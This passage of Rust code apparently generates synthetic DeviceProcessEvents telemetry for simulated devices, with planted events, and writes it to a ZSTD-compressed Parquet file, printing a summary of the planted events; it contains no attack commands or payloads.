            let x = (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
            let rank = ((x.powf(1.7) * nd as f64) as usize).min(nd - 1);
            let dev = &devices[(rank.wrapping_mul(7_919).wrapping_add(13)) % nd];
            (dev, g.event(&mut rng, dev, t, &mut s))
        } else {
            let dev = &devices[PLANTS[plant].0 % nd];
            (dev, g.plant(plant, &mut rng, dev, t, &mut s))
        };
        if rng.chance(0.05) {
            w!(
                s.extra,
                r#"{{"ProcessStartKey":{},"InitiatingProcessStartKey":{}}}"#,
                0x1000_0000_0000_0000u64 + (mix(dev.salt ^ ev.child.pid as u64 ^ t as u64) >> 8),
                0x1000_0000_0000_0000u64 + (mix(dev.salt ^ ev.parent.pid as u64) >> 8)
            );
        }
        let ingested = t + rng.range(2, 300) * SECOND + rng.below(SECOND as u64) as i64;
        let report = ((b as i64) << 20 | k as i64) + 1;
        push_row(&mut cols, g.w, dev, &ev, &mut s, t, ingested, report);
    }
    cols.finish(schema)
}

/// Writes `rows` background events (with the plants on top) across `devices` devices to `out`.
pub fn write(out: &Path, rows: usize, seed: u64, devices: usize) -> Result<String, String> {
    let started = Instant::now();
    let world = World::new(devices.max(1), seed);
    let catalog = Catalog::new();
    let g = Gen { cat: &catalog, w: &world };
    let schema = schema();
    if let Some(dir) = out.parent() {
        std::fs::create_dir_all(dir).map_err(|e| format!("cannot create {}: {e}", dir.display()))?;
    }
    let file = File::create(out).map_err(|e| format!("cannot create {}: {e}", out.display()))?;
    let props = WriterProperties::builder()
        .set_compression(Compression::ZSTD(ZstdLevel::try_new(3).map_err(|e| e.to_string())?))
        .set_max_row_group_row_count(Some(256 * 1024))
        // Mostly unique: a dictionary would only be built to be abandoned.
        .set_column_dictionary_enabled(ColumnPath::from("ProcessCommandLine"), false)
        .set_column_dictionary_enabled(ColumnPath::from("InitiatingProcessCommandLine"), false)
        .set_column_dictionary_enabled(ColumnPath::from("AdditionalFields"), false)
        .build();
    let mut writer = ArrowWriter::try_new(file, schema.clone(), Some(props)).map_err(|e| e.to_string())?;
    let batches = rows.div_ceil(BATCH).max(1);
    let mut total = 0usize;
    // One thread generates the batches while this one encodes and writes them.
    std::thread::scope(|scope| -> Result<(), String> {
        let (tx, rx) = mpsc::sync_channel::<Result<RecordBatch, String>>(1);
        let (g, schema) = (&g, &schema);
        scope.spawn(move || {
            for b in 0..batches {
                if tx.send(batch(g, schema, b, batches, rows, seed)).is_err() {
                    break;
                }
            }
        });
        for batch in rx {
            let batch = batch?;
            total += batch.num_rows();
            writer.write(&batch).map_err(|e| e.to_string())?;
        }
        Ok(())
    })?;
    writer.close().map_err(|e| e.to_string())?;
    let size = std::fs::metadata(out).map(|m| m.len()).unwrap_or(0);
    let mut summary = format!(
        "wrote {total} DeviceProcessEvents rows ({} devices, {} columns) to {} ({:.1} MB) in {:.1} s\nplanted:",
        world.devices.len(),
        COLUMNS.len(),
        out.display(),
        size as f64 / 1e6,
        started.elapsed().as_secs_f64()
    );
    for &(d, at, what) in PLANTS {
        let t =
            chrono::DateTime::from_timestamp(DAY1 / SECOND + at, 0).map(|t| t.format("%Y-%m-%d %H:%M:%S").to_string()).unwrap_or_default();
        summary.push_str(&format!("\n  {t}  {}  {what}", world.devices[d % world.devices.len()].name));
    }
    Ok(summary)
}
